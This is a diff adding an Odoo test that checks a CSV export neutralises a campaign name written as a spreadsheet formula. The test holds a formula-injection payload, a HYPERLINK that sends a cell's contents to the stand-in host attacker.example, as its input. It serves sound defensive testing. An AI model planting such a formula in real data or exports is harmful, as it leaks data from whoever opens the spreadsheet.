@@ -59,6 +59,25 @@ def test_export_csv(odoo_url, odoo_db, make_user, impact_dataset):
     assert campaigns[0][1:3] == [impact_dataset.CAMPAIGN, "43000.0"]
 
 
+def test_export_csv_neutralises_a_formula_campaign(odoo_url, odoo_db, registry, make_user):
+    """A campaign named like a formula (e.g. made up by a visitor) is written as text."""
+    from odoo import SUPERUSER_ID, api  # noqa: PLC0415
+
+    name = '=HYPERLINK("http://attacker.example/?d="&A1,"Voir")'
+    with registry.cursor() as cr:
+        env = api.Environment(cr, SUPERUSER_ID, {})
+        campaign = env["utm.campaign"].search([("name", "=", name)]) or env["utm.campaign"].create({"name": name})
+        env["crm.lead"].create({"name": "Famille Formule", "campaign_id": campaign.id, "type": "opportunity",
+                                "team_id": env.ref("territory_concierge.crm_team_concierge").id})
+    _uid, key = make_user(["territory_concierge.group_concierge_manager"])
+    result = export(odoo_url, odoo_db, key, "--campaign", name, "--format", "csv")
+    assert result.returncode == 0, result.stderr
+    campaigns = [row for row in csv.reader(io.StringIO(result.stdout), delimiter=";") if row and row[0] == "campaigns"]
+    assert campaigns[0][1] == f"'{name}"
+    assert not any(cell.startswith(("=", "+", "@")) for row in csv.reader(io.StringIO(result.stdout), delimiter=";")
+                   for cell in row)
+
+
 def test_export_refused_to_a_crm_user_outside_the_conciergerie(odoo_url, odoo_db, make_user, impact_dataset):
     _uid, key = make_user(["sales_team.group_sale_salesman_all_leads"])
     result = export(odoo_url, odoo_db, key)
